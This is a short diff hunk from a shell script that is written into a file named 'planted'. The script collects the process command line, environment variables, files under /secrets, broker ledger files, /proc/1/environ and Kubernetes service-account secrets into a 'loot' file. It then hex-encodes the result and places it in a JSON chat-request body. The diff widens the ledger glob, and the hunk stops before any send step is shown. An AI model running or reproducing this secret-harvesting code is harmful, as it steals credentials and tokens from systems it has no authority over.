@@ -6,7 +6,7 @@ cat > /workspace/planted <<'PLANTED'
 {
   tr '\0' ' ' < /proc/1/cmdline
   env
-  cat /secrets/*/* /broker/ledger.json /proc/1/environ /var/run/secrets/*/*/* 2> /dev/null
+  cat /secrets/*/* /broker/ledger* /proc/1/environ /var/run/secrets/*/*/* 2> /dev/null
 } > "/tmp/loot.$$"
 loot=$(od -An -tx1 -v "/tmp/loot.$$" | tr -d ' \n')
 body='{"model":"planted","messages":[{"role":"user","content":"'$loot'"}]}'
